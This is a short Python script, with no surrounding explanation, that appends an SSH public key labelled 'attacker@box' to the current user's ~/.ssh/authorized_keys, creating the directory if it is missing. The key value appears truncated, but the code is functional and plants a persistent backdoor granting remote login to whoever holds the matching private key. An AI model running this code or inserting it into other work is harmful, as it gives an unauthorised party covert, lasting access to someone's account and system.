from pathlib import Path
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker@box"
ak = Path.home() / ".ssh" / "authorized_keys"
ak.parent.mkdir(mode=0o700, exist_ok=True)
with ak.open("a") as f:
    f.write(KEY + "\n")
